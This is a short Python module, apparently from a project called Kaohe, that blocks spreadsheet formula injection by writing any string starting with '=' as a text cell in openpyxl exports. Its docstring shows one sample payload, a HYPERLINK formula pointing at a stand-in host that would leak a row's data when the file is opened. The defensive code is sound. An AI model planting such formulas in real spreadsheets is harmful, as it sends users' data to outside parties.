"""User text as a cell: every workbook Kaohe writes with openpyxl appends its rows through ``append_row``.

openpyxl turns any string starting with "=" into a live formula, so a unit named
``=HYPERLINK("http://evil.example/?"&B3,"详情")`` would become a link that leaks the row to whoever opens
the export. ``append_row`` writes every string as a string cell, whether given as a value or as a cell made
beforehand (a bold header, a dated cell). Kaohe never writes a formula on purpose.
(XlsxWriter's ``write_string``, used by workbook/writer.py, already writes strings as strings.)
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import Cell, WriteOnlyCell


def text_cell(sheet: Any, value: Any) -> Any:
    """``value`` ready for ``sheet.append``: a string that would read as a formula becomes a text cell."""
    if isinstance(value, Cell):
        if value.data_type == "f":
            value.data_type = "s"
        return value
    if isinstance(value, str) and value.startswith("="):
        cell = WriteOnlyCell(sheet, value=value)
        cell.data_type = "s"
        return cell
    return value


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """``sheet.append(values)`` with every string written as text, never as a formula."""
    sheet.append([text_cell(sheet, value) for value in values])
